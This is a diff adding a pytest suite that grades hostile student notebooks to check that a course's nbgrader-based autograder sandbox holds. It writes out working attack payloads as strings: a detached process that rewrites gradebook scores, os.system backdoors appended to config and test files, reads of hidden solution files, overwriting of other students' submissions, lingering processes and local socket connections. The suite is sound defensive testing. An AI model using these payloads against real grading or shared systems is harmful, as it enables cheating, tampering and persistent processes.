@@ -1,0 +1,276 @@
+"""A hostile student's notebook cannot change a score, harm another student or outlive
+its grading: every attack of issue 12, graded for real.
+
+One class of lesson 01 is graded twice, with ``course grade --jobs 2`` and with plain
+``nbgrader autograde`` (the course's ``nbgrader_config.py``), each in a scratch course.
+Every attacker answers all three functions WRONG (worth 0 of 10 points) and adds an
+attack; two honest students answer right. Afterwards the tests check each attacker's
+score, that the course's files and the honest students' are byte-identical, that no
+process an attack started is alive (each names itself ``course-attack``), and that a
+listener on 127.0.0.1 received no connection.
+"""
+import hashlib
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbgrader.api import Gradebook
+
+from course import ROOT, lessons
+from course.nbgrader_run import environment, nbgrader, new_course
+from course.submissions import fill, solutions
+
+LESSON = lessons.find(["01_forward_propagation"])[0]
+SOURCE = nbformat.read(ROOT / "source" / LESSON.name / LESSON.notebook_name, as_version=4)
+RELEASE = nbformat.read(ROOT / "release" / LESSON.name / LESSON.notebook_name, as_version=4)
+RIGHT = solutions(SOURCE)
+WRONG = {
+    "dense_forward": "def dense_forward(x, W, b):\n    return x @ W\n",
+    "sigmoid": "import numpy as np\ndef sigmoid(z):\n    return 1 / (1 + np.exp(z))\n",
+    "mlp_forward": "def mlp_forward(x, weights, biases):\n    return x, [x]\n",
+}
+HONEST = ("honest_a", "honest_z")  # graded before and after every attacker (names sort so)
+REFERENCE = ROOT / "helpers" / "reference" / "forward.py"
+CATALOGUE = ROOT / "tests" / "mistakes" / "dense_forward.py"
+
+# A process an attack leaves behind names itself course-attack (prctl PR_SET_NAME).
+LINGER = ("import ctypes, time\nctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n"
+          "time.sleep(600)\n")
+
+
+def attacks(root, port):
+    """student -> {grade_id or "added": source}; "added" is a cell the student added."""
+    course = str(root)
+    spawn = f"[sys.executable, '-c', {LINGER!r}]"
+    return {
+        "detached_gradebook": {"added": (
+            "import os, sqlite3, time\n"
+            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+            "        import ctypes\n        ctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n"
+            "        time.sleep(20)\n"
+            f"        db = sqlite3.connect({course + '/gradebook.db'!r})\n"
+            "        db.execute('UPDATE grade SET auto_score = 99')\n        db.commit()\n"
+            "    os._exit(0)\n")},
+        "catalogue_backdoor": {"added": (
+            f"with open({str(CATALOGUE)!r}, 'a') as f:\n"
+            "    f.write('\\nimport os\\nos.system(\"touch /tmp/course-attack-ran\")\\n')\n")},
+        "read_reference": {"dense_forward": (
+            "import ctypes, os\n"
+            "def _read():\n"
+            "    tries = []\n"
+            f"    folder = lambda: os.open({str(REFERENCE.parent)!r}, os.O_RDONLY)\n"
+            "    tries.append(lambda: os.read(os.open('forward.py', os.O_RDONLY, dir_fd=folder()), 10**6))\n"
+            "    libc = ctypes.CDLL(None)\n"
+            "    def by_libc():\n"
+            f"        fd = libc.open({str(REFERENCE).encode()!r}, 0)\n"
+            "        buffer = ctypes.create_string_buffer(10**6)\n"
+            "        return buffer.raw[:libc.read(fd, buffer, 10**6)]\n"
+            "    tries.append(by_libc)\n"
+            f"    tries.append(lambda: (os.link({str(REFERENCE)!r}, '/tmp/link.py'), open('/tmp/link.py', 'rb').read())[1])\n"
+            "    for attempt in tries:\n"
+            "        try:\n            return attempt().decode()\n"
+            "        except Exception:\n            pass\n"
+            "def dense_forward(x, W, b):\n"
+            "    scope = {}\n    exec(_read() or 'dense_forward = lambda x, W, b: x @ W', scope)\n"
+            "    return scope['dense_forward'](x, W, b)\n")},
+        "kernel_copy": {
+            "added": f"import shutil\nshutil.copy({str(REFERENCE)!r}, '/tmp/ref.py')\n",
+            "dense_forward": (
+                "import os\ndef dense_forward(x, W, b):\n    scope = {}\n"
+                "    if os.path.exists('/tmp/ref.py'):\n        exec(open('/tmp/ref.py').read(), scope)\n"
+                "        return scope['dense_forward'](x, W, b)\n    return x @ W\n")},
+        "tamper": {"added": (
+            "import glob, os, pathlib\n"
+            f"root = pathlib.Path({course!r})\n"
+            "for path in glob.glob(str(root / 'submitted' / 'honest_*' / '*' / '*.ipynb')):\n"
+            "    pathlib.Path(path).write_text('{}')\n"
+            "for path in glob.glob(str(root / 'autograded' / '*' / '*' / '*.ipynb')):\n"
+            "    pathlib.Path(path).write_text('{}')\n"
+            "for path in glob.glob(str(root / 'source' / '*' / '*.ipynb')):\n"
+            "    os.remove(path)\n"
+            "with open(root / 'nbgrader_config.py', 'a') as config:\n"
+            "    config.write('\\nimport os; os.system(\"touch /tmp/course-attack-ran\")\\n')\n")},
+        "print_solutions": {"added": (
+            "import base64, glob\n"
+            f"for path in glob.glob({str(ROOT / 'helpers' / 'reference' / '*.py')!r}):\n"
+            "    print(open(path).read())\n"
+            f"print(base64.b64encode(open({course + '/source/' + LESSON.name + '/' + LESSON.notebook_name!r}, 'rb').read()))\n")},
+        "processes_and_network": {
+            "added": (
+                "import os, socket, subprocess, sys\n"
+                f"subprocess.Popen({spawn}, start_new_session=True)\n"
+                f"os.system(' '.join([sys.executable, '-c', repr({LINGER!r}), '&']))\n"
+                f"socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'kernel')\n"),
+            "dense_forward": (
+                "import ctypes, socket, sys, time\n"
+                "if ctypes.CDLL(None).fork() == 0:\n"
+                "    ctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n    time.sleep(600)\n"
+                "def dense_forward(x, W, b):\n"
+                "    try:\n"
+                f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'answer')\n"
+                "    except OSError:\n        pass\n"
+                "    return x @ W\n")},
+        "pipe_stall": {"dense_forward": (
+            "import os, stat, struct, time\n"
+            "for fd in range(3, 64):\n"
+            "    try:\n"
+            "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
+            "            os.write(fd, struct.pack('!i', 100_000_000) + b'{')\n"
+            "    except OSError:\n        pass\n"
+            "time.sleep(600)\n"
+            "def dense_forward(x, W, b):\n    return x @ W + b\n")},
+        "later_lesson": {"sigmoid": (
+            "import numpy as np\n"
+            "def sigmoid(z):\n"
+            "    from helpers.reference import softmax\n"
+            "    z = np.asarray(z, dtype=float)\n"
+            "    return softmax(np.stack([np.zeros_like(z), z], axis=-1))[..., 1]\n")},
+        "own_timeout": {"added": "import time\ntime.sleep(40)\nprint('slept through')\n"},
+    }
+
+
+def notebook(answers):
+    """The release notebook with ``answers``; an "added" cell goes after the imports."""
+    nb = fill(RELEASE, {**WRONG, **{k: v for k, v in answers.items() if k != "added"}})
+    if "added" in answers:
+        cell = nbformat.v4.new_code_cell(answers["added"])
+        if "time.sleep(40)" in answers["added"]:
+            cell.metadata["course"] = {"timeout": 0}  # the student's own "no limit"
+        nb.cells.insert(1, cell)
+    return nb
+
+
+def fingerprint(paths):
+    """sha256 of every file under ``paths`` (a tampered or deleted file changes it)."""
+    found = {}
+    for top in paths:
+        for path in sorted([top] if top.is_file() else top.rglob("*")):
+            if path.is_file() and "__pycache__" not in path.parts:
+                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+def attack_processes():
+    """Live processes that named themselves course-attack, anywhere on the machine."""
+    found = []
+    for comm in Path("/proc").glob("[0-9]*/comm"):
+        try:
+            if comm.read_text().strip() == "course-attack":
+                found.append(int(comm.parent.name))
+        except OSError:
+            pass
+    return found
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records what connects to it."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            self.received.append(connection.recv(100))
+            connection.close()
+
+
+@pytest.fixture(scope="module", params=["course grade", "nbgrader autograde"])
+def graded(request, tmp_path_factory):
+    root = new_course(tmp_path_factory.mktemp("course"))
+    shutil_copy(ROOT / "source" / LESSON.name, root / "source" / LESSON.name)
+    nbgrader(root, "generate_assignment", LESSON.name, "--force")
+    listener = Listener()
+    students = {name: notebook(RIGHT) for name in HONEST}
+    students.update({name: notebook(a) for name, a in attacks(root, listener.port).items()})
+    for student, nb in students.items():
+        folder = root / "submitted" / student / LESSON.name
+        folder.mkdir(parents=True)
+        nbformat.write(nb, folder / LESSON.notebook_name)
+    protected = [root / "source", root / "nbgrader_config.py", root / "submitted",
+                 ROOT / "helpers", ROOT / "tests" / "mistakes", ROOT / "nbgrader_config.py", ROOT / "source"]
+    before = fingerprint(protected)
+    if request.param == "course grade":
+        command = [sys.executable, "-m", "course", "grade", LESSON.name, "--jobs", "2", "--course-dir", str(root)]
+    else:
+        command = [sys.executable, "-m", "nbgrader", "autograde", LESSON.name, "--force",
+                   f"--CourseDirectory.root={root}"]
+    # a hang would fail here rather than block the suite
+    done = subprocess.run(command, cwd=root, env=environment(), capture_output=True, text=True, timeout=1200)
+    deadline = time.monotonic() + 20  # SIGKILLed processes vanish within moments
+    while attack_processes() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
+        scores = {}
+        for student in students:
+            nb = gradebook.find_submission_notebook(LESSON.name, LESSON.name, student)
+            scores[student] = sum(g.score for g in nb.grades)
+    return {"root": root, "done": done, "scores": scores, "before": before, "after": fingerprint(protected),
+            "processes": attack_processes(), "listener": listener}
+
+
+def shutil_copy(source, target):
+    import shutil
+    shutil.copytree(source, target)
+
+
+def autograded_outputs(root, student):
+    nb = nbformat.read(root / "autograded" / student / LESSON.name / LESSON.notebook_name, as_version=4)
+    return "\n".join(o.get("text", "") + o.get("evalue", "") for c in nb.cells for o in c.get("outputs", []))
+
+
+@pytest.mark.parametrize("student", ["detached_gradebook", "catalogue_backdoor", "read_reference",
+                                     "kernel_copy", "tamper", "print_solutions", "processes_and_network",
+                                     "pipe_stall", "later_lesson", "own_timeout"])
+def test_an_attack_earns_nothing(graded, student):
+    assert graded["scores"][student] == 0, graded["done"].stderr[-2000:]
+
+
+def test_honest_students_get_full_marks_and_their_files_are_untouched(graded):
+    assert [graded["scores"][s] for s in HONEST] == [10, 10]
+    changed = sorted(p for p in graded["before"].keys() | graded["after"].keys()
+                     if graded["before"].get(p) != graded["after"].get(p))
+    assert changed == []  # submitted/, source/, config, the repository's helpers and catalogue
+    assert not Path("/tmp/course-attack-ran").exists()
+    for student in HONEST:
+        assert "course-attack" not in autograded_outputs(graded["root"], student)
+
+
+def test_no_process_an_attack_started_is_alive(graded):
+    assert graded["processes"] == []
+
+
+def test_no_connection_left_the_sandbox(graded):
+    assert graded["listener"].received == []
+    assert "Network is unreachable" in autograded_outputs(graded["root"], "processes_and_network") \
+        or "Connection refused" in autograded_outputs(graded["root"], "processes_and_network")
+
+
+def test_printed_solutions_show_only_errors(graded):
+    printed = autograded_outputs(graded["root"], "print_solutions")
+    assert "def dense_forward" not in printed and "No such file or directory" in printed
+
+
+def test_a_stalled_message_costs_only_its_function(graded):
+    text = autograded_outputs(graded["root"], "pipe_stall")
+    assert "could not be defined" in text or "did not finish within" in text
+
+
+def test_a_later_lessons_reference_is_refused(graded):
+    assert "helpers.reference.softmax is not available" in autograded_outputs(graded["root"], "later_lesson")
+
+
+def test_a_cells_time_limit_is_the_instructors(graded):
+    text = autograded_outputs(graded["root"], "own_timeout")
+    assert "slept through" not in text and "CellTimeoutError" in text
